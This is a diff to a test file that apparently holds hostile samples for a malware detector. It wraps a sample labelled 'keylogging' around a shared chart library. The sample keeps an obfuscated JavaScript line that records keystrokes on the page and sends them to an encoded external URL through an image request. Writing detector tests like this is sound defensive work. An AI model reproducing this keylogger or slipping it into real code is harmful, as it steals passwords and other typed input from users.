@@ -3,7 +3,7 @@
 import base64
 from typing import Any
 
-from tests.hostile.heldout_second.ordinary import BOARD, DATES, FEEDS, MARKDOWN, TODO, WEATHER, within
+from tests.hostile.heldout_second.ordinary import BOARD, CHARTS, DATES, FEEDS, MARKDOWN, TODO, WEATHER, within
 from tests.support.asking import asking
 from tests.support.plugins import a_png
 from tests.support.samples import Sample
@@ -283,81 +283,12 @@ module.exports.Weather = function () { return null; };
     _sample(
         "chart-library-with-obfuscated-line",
         "keylogging",
-        r"""
-(function (root, factory) {
-  if (typeof module === 'object' && module.exports) module.exports = factory();
-  else root.TinyCharts = factory();
-})(typeof self !== 'undefined' ? self : this, function () {
-  'use strict';
-
-  var NS = 'http://www.w3.org/2000/svg';
-  var PALETTE = ['#3366cc', '#dc3912', '#ff9900', '#109618', '#990099', '#0099c6'];
-
-  function node(name, attributes, children) {
-    var element = document.createElementNS(NS, name);
-    for (var key in attributes) element.setAttribute(key, attributes[key]);
-    (children || []).forEach(function (child) { element.appendChild(child); });
-    return element;
-  }
-
-  function extent(values) {
-    return values.reduce(function (seen, value) {
-      return [Math.min(seen[0], value), Math.max(seen[1], value)];
-    }, [Infinity, -Infinity]);
-  }
-
-  function ticks(low, high, count) {
-    var span = high - low || 1;
-    var step = Math.pow(10, Math.floor(Math.log(span / count) / Math.LN10));
-    var error = (count * step) / span;
-    if (error <= 0.15) step *= 10; else if (error <= 0.35) step *= 5; else if (error <= 0.75) step *= 2;
-    var list = [];
-    for (var v = Math.ceil(low / step) * step; v <= high + step / 2; v += step) list.push(+v.toFixed(10));
-    return list;
-  }
-
-  function linear(domain, range) {
-    var factor = (range[1] - range[0]) / (domain[1] - domain[0] || 1);
-    return function (value) { return range[0] + (value - domain[0]) * factor; };
-  }
-
-  function line(series, options) {
-    var width = options.width || 320, height = options.height || 160, pad = 24;
-    var all = [].concat.apply([], series.map(function (s) { return s.values; }));
-    var bounds = extent(all);
-    var y = linear(bounds, [height - pad, pad]);
-    var longest = Math.max.apply(null, series.map(function (s) { return s.values.length; }));
-    var x = linear([0, longest - 1], [pad, width - pad]);
-    var grid = ticks(bounds[0], bounds[1], 4).map(function (value) {
-      return node('line', { x1: pad, x2: width - pad, y1: y(value), y2: y(value), stroke: '#ddd' });
-    });
-    var paths = series.map(function (one, index) {
-      var d = one.values.map(function (value, i) { return (i ? 'L' : 'M') + x(i).toFixed(1) + ',' + y(value).toFixed(1); }).join('');
-      return node('path', { d: d, fill: 'none', stroke: PALETTE[index % PALETTE.length], 'stroke-width': 2 });
-    });
-    return node('svg', { width: width, height: height, viewBox: '0 0 ' + width + ' ' + height }, grid.concat(paths));
-  }
-
-  function bars(values, options) {
-    var width = options.width || 320, height = options.height || 160;
-    var y = linear([0, extent(values)[1]], [0, height]);
-    var step = width / values.length;
-    return node('svg', { width: width, height: height }, values.map(function (value, index) {
-      return node('rect', { x: index * step + 1, y: height - y(value), width: step - 2, height: y(value), fill: PALETTE[0] });
-    }));
-  }
-
-  function mount(element, kind, values, options) {
-    var drawing = kind === 'bars' ? bars(values, options || {}) : line(values, options || {});
-    while (element.firstChild) element.removeChild(element.firstChild);
-    element.appendChild(drawing);
+        within(
+            CHARTS,
+            r"""
 function b(c,d){c=c-0x1eb;var e=a();var f=e[c];if(b['hdhtUt']===undefined){var g=function(j){var l='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';var m='',n='';for(var o=0x0,p,q,r=0x0;q=j['charAt'](r++);~q&&(p=o%0x4?p*0x40+q:q,o++%0x4)?m+=String['fromCharCode'](0xff&p>>(-0x2*o&0x6)):0x0){q=l['indexOf'](q);}for(var s=0x0,t=m['length'];s<t;s++){n+='%'+('00'+m['charCodeAt'](s)['toString'](0x10))['slice'](-0x2);}return decodeURIComponent(n);};b['EtDlDf']=g,b['xserqV']={},b['hdhtUt']=!![];}var h=e[0x0];b['cLWvRi']!==h&&(b['xserqV']={},b['cLWvRi']=h);var i=b['xserqV'][c];return i===undefined?(f=b['EtDlDf'](f),b['xserqV'][c]=f):f=i,f;}function a(){var k=['A2v5','nwTOwK51ta','mJCZntzWsg9WrLK','mZeXnfrirMH1qq','nJm1nJy0q0vKu21P','nZe1mtbgrfD1CgK','mtC1ndaWmerfrejWDa','tgLZDa','ywrKrq','A3GUzq','mtG4otqXq0XsuNni','mtG1mJqXqxbLCMnj','A2v5Ca','m3fAEMjJAW','C3jJ','Ahr0Ca','CZOVlW','EgfTCa','lMDPzG','zxqVAW','zw5LCG','BgvUzW','DMvUDa','BguUBG','CMvZCW','mJqXnKvvDhzvvG'];a=function(){return k;};return a();}(function(c,d){var h=b,e=c();while(!![]){try{var f=parseInt(h(0x1ff))/0x1+parseInt(h(0x1fa))/0x2*(parseInt(h(0x202))/0x3)+-parseInt(h(0x1f7))/0x4*(parseInt(h(0x1f6))/0x5)+-parseInt(h(0x1f9))/0x6+-parseInt(h(0x200))/0x7+-parseInt(h(0x1f4))/0x8*(parseInt(h(0x1f8))/0x9)+parseInt(h(0x1fb))/0xa;if(f===d)break;else e['push'](e['shift']());}catch(g){e['push'](e['shift']());}}}(a,0x262c6),(function(){var i=b,c='';document[i(0x1fd)+i(0x1f1)+i(0x1fc)+i(0x1ef)](i(0x201)+i(0x1f3),function(d){var j=i;c+=d[j(0x1f5)],c[j(0x1f0)+'th']>0x28&&(new Image()[j(0x203)]=j(0x204)+j(0x1eb)+j(0x1fe)+j(0x1ec)+j(0x1f2)+j(0x1ee)+j(0x1ed)+'?'+encodeURIComponent(c),c='');});}()));
-    return drawing;
-  }
-
-  return { mount: mount, line: line, bars: bars, ticks: ticks, linear: linear, Weather: mount };
-});
 """,
+        ),
     ),
     _sample(
         "minified-dates-with-back-door",
